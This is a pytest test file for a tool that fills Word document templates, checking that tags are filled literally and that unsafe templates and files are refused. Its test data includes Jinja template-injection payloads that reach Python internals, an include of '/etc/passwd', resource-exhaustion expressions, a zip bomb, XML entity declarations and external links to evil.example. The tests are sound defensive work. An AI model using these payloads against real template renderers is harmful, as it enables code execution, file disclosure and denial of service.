"""A template of somebody's own: filled in word for word, and refused where it does more than name things."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import docx
import pytest

from sli_cli.errors import BadValue, Rejected
from sli_cli.render.template import fill, tags_of

pytest.importorskip("docxtpl")

NAMES = {"title": (), "board": (), "rows": ("ref", "text"), "tables": ("letter", "rows")}
VALUES: dict[str, Any] = {
    "title": "R&D <Board> \x0b“quoted”",
    "board": "LSCB",
    "rows": [{"ref": "1", "text": "{{ 7*7 }}\nsecond line"}, {"ref": "2", "text": "</w:t>"}],
    "tables": [{"letter": "A", "rows": [{"ref": "1", "text": ""}]}, {"letter": "B", "rows": []}],
}


def template(place: Path, *lines: str, footer: str = "", **properties: str) -> str:
    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    document.sections[0].footer.paragraphs[0].text = footer
    for name, value in properties.items():
        setattr(document.core_properties, name, value)
    document.save(str(place / "template.docx"))
    return str(place / "template.docx")


def filled(path: str) -> Any:
    return docx.Document(io.BytesIO(fill(path, NAMES, VALUES, "The title")))


def test_names_loops_conditions_and_filters_are_filled_in_and_words_stay_words(tmp_path: Path) -> None:
    path = template(
        tmp_path,
        "{{ title }}",
        "{%p for r in rows %}",
        "{{ loop.index }}. {{ r.ref|upper }}: {{ r.text }}{% if loop.last %} (last){% endif %}",
        "{%p endfor %}",
        "{% for t in tables %}{{ t.letter }}{% for r in t.rows %}{{ r.ref }}{% else %}none{% endfor %} {% endfor %}",
        footer="{{ board }}",
    )
    found = filled(path)
    assert [p.text for p in found.paragraphs] == [
        "R&D <Board> \ufffd“quoted”",
        "1. 1: {{ 7*7 }}\nsecond line",
        "2. 2: </w:t> (last)",
        "A1 Bnone ",
    ]
    assert found.sections[0].footer.paragraphs[0].text == "LSCB"


def test_a_row_of_a_table_is_repeated_and_its_header_row_kept(tmp_path: Path) -> None:
    document = docx.Document()
    table = document.add_table(rows=4, cols=2)
    rows = [("Ref", "What"), ("{%tr for r in rows %}", ""), ("{{ r.ref }}", "{{ r.text }}"), ("{%tr endfor %}", "")]
    for row, texts in zip(table.rows, rows, strict=True):
        for cell, text in zip(row.cells, texts, strict=True):
            cell.text = text
    document.save(str(tmp_path / "template.docx"))
    [found] = filled(str(tmp_path / "template.docx")).tables
    assert [[cell.text for cell in row.cells] for row in found.rows] == [
        ["Ref", "What"],
        ["1", "{{ 7*7 }}\nsecond line"],
        ["2", "</w:t>"],
    ]


def test_the_file_has_the_title_and_the_language_and_no_author(tmp_path: Path) -> None:
    path = template(tmp_path, "{{ title }}", author="A. Secretary", last_modified_by="A. Secretary")
    properties = filled(path).core_properties
    assert (properties.title, properties.author, properties.last_modified_by) == ("The title", "", "")
    assert properties.language == "en-GB"


def test_the_tags_are_listed_and_the_misspelt_ones_with_what_was_perhaps_meant(tmp_path: Path) -> None:
    path = template(
        tmp_path, "{{ titel }} {{ board }}", "{% for r in rows %}{{ r.txet }}{% endfor %}", footer="{{ boards }}"
    )
    found = tags_of(path, NAMES)
    assert found.used == ("titel", "board", "rows", "txet", "boards")
    assert found.unknown == (("titel", "title"), ("txet", "text"), ("boards", "board"))
    with pytest.raises(Rejected, match="names what there is not: titel"):
        fill(path, NAMES, VALUES, "")


HOSTILE = {
    "reaching for classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "reaching by a filter": "{{ title|attr('__class__') }}",
    "reaching through a loop": "{% for x in title %}{{ x.__class__ }}{% endfor %}",
    "a call": "{{ title.format(board) }}",
    "a name of jinja's own": "{{ lipsum.__globals__ }}",
    "a range": "{% for i in range(1000000000) %}x{% endfor %}",
    "a long string": "{{ 'a' * 1000000000 }}",
    "a power": "{{ 9 ** 9 ** 9 }}",
    "a filter that pads": "{{ title|center(1000000000) }}",
    "loops in loops": "{% for a in rows %}{% for b in rows %}x{% endfor %}{% endfor %}",
    "loops over the outer thing": "{% for a in tables %}{% for b in a.rows %}{% for c in a.rows %}x"
    + "{% endfor %}" * 3,
    "a loop into itself": "{% for a in rows recursive %}{{ loop(rows) }}{% endfor %}",
    "a variable": "{% set x = title ~ title %}",
    "a macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "an include": "{% include '/etc/passwd' %}",
    "a tag that does not close": "{{ title ",
    "many tags that do not close": "}}" * 9 + "{{ " * 20_000,
    "very many tags": "{{ title }}" * 1_001,
    "a very long tag": "{{ title" + " " * 400 + "}}",
    "no tag of jinja's": "{% nonsense %}",
}


CASES = [
    pytest.param(tag, where, id=f"{name} in the {where}")
    for name, tag in HOSTILE.items()
    for where in ("body", "footer", "subject")
    if where != "subject" or len(tag) <= 255  # a property is no longer than that
]


@pytest.mark.parametrize(("tag", "where"), CASES)
def test_a_template_that_does_more_than_name_things_is_refused_in_a_sentence(
    tmp_path: Path, tag: str, where: str
) -> None:
    path = template(tmp_path, *([tag] if where == "body" else []), **{where: tag} if where != "body" else {})
    for attempt in (lambda: fill(path, NAMES, VALUES, ""), lambda: tags_of(path, NAMES)):
        try:
            found = attempt()
        except Rejected as error:
            assert "\n" not in error.sentence
            assert error.remedy
        else:
            assert getattr(found, "unknown", ())  # a list of tags says which of them there are not


def with_part(path: str, name: str, content: bytes) -> str:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return path


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("word/vbaProject.bin", b"", "holds macros"),
        ("word/extra.xml", b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>", "declares a document type"),
        ("word/extra.xml", "<?xml version='1.0' encoding='utf-16'?><x/>".encode("utf-16"), "declares a document type"),
        ("word/extra.xml", b"<x>" + b" " * (4 << 20) + b"</x>", "more than 3 MB"),
        ("word/media/bomb.png", bytes(110 << 20), "would unpack to more"),
        (
            "word/_rels/extra.xml.rels",
            b"<x><R Type='http://s/image' Target='http://evil.example/a.png' TargetMode='Ext&#101;rnal'/></x>",
            "fetches something",
        ),
        (
            "word/_rels/settings.xml.rels",
            b'<x><R Type="http://s/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></x>',
            "fetches something",
        ),
    ],
)
def test_a_file_that_could_do_harm_when_it_is_opened_is_refused(
    tmp_path: Path, name: str, content: bytes, why: str
) -> None:
    path = with_part(template(tmp_path, "{{ title }}"), name, content)
    with pytest.raises(Rejected, match=why):
        tags_of(path, NAMES)


def test_what_is_no_word_file_or_not_there_is_refused(tmp_path: Path) -> None:
    (tmp_path / "no.docx").write_bytes(b"no archive")
    with pytest.raises(Rejected, match="is damaged, or no Word document"):
        tags_of(str(tmp_path / "no.docx"), NAMES)
    with zipfile.ZipFile(tmp_path / "empty.docx", "w") as archive:
        archive.writestr("a.txt", "nothing")
    with pytest.raises(Rejected, match="is no Word document"):
        tags_of(str(tmp_path / "empty.docx"), NAMES)
    with pytest.raises(BadValue, match="could not be read"):
        tags_of(str(tmp_path / "none.docx"), NAMES)
